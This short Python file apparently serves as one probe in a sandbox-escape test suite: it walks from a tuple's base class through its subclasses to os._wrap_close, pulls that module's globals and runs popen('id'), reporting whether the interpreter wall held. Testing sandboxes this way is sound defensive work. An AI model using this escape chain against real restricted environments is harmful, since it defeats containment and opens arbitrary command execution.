# attack: walk from a tuple to every class, and so to os
# class: interpreter walk
# wall: fdless


def attack(frame, frame_index, config):
    for found in ().__class__.__base__.__subclasses__():
        if found.__name__ == "_wrap_close":
            module = found.__init__.__globals__
            try:
                return "outside: " + module["popen"]("id").read()
            except OSError:
                return "inside: has os"
    return "held: no such class"
